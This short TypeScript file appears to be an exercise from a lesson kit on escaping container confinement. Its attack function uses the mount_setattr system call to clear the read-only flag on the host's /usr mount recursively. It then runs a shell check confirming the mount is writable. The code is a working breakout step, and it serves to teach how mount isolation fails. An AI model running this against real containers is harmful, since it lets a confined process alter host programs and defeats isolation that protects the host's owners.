/** Out of lesson 6: /usr is the host's, and read-only is a mark on the mount. Root may wipe it off. */
import { type BreakOut, execute } from 'tsrun/lessons/kit.ts';
import { AT_FDCWD, AT_RECURSIVE, MOUNT_ATTR_RDONLY } from 'tsrun/linux/constants.ts';

export default {
  attack(b) {
    const attributes = Buffer.alloc(32);
    attributes.writeBigUInt64LE(BigInt(MOUNT_ATTR_RDONLY), 8); // behind the marks to set: those to wipe off
    b.call('mount_setattr', [AT_FDCWD, b.text('/usr'), AT_RECURSIVE, b.bytes(attributes, 'struct mount_attr'), 32], {
      title: 'make /usr writable',
    });
    execute(b, ['sh', '-c', 'test -w /usr && echo "I could change every program of the host"']);
  },
} satisfies BreakOut;
